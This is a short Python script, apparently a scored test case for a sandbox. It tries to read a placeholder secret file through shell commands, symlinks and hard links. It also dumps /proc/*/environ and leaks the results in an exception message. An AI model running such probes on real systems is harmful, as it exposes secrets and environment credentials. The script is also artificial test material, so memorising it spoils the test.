"""Reads files by the shell, by other programs and by links."""

# answers: two
# earns: 20

# %% first
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import os, subprocess
got = [attempt(lambda: subprocess.run(c, shell=True, capture_output=True).stdout) for c in ("cat @SECRET@ @HIDDEN@", "dd if=@SECRET@", "tar c @SECRET@", "head -c 100 /proc/*/environ", "python3 -c 'print(open(\"@SECRET@\").read())'")]
for make in (os.symlink, os.link):
    attempt(make, "@SECRET@", make.__name__)
    got.append(read(make.__name__))
print(got)
raise ValueError(str(got)[:1_900])
